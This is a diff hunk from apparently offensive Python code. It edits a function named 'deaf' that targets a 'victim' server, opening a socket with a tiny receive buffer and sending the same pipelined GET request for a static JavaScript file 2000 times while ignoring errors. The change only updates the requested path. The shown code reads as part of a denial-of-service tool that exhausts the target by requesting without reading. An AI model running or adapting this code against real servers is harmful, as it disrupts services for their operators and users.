@@ -169,7 +169,7 @@ def deaf(victim: Victim) -> socket.socket:
     one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
     one.connect(victim.address)
     one.settimeout(1)
-    asked = head("/static/mesh3d.js", method="GET").replace("\n", "\r\n").encode()
+    asked = head("/static/overview/mesh3d.js", method="GET").replace("\n", "\r\n").encode()
     with contextlib.suppress(OSError):
         for _ in range(2000):
             one.sendall(asked)
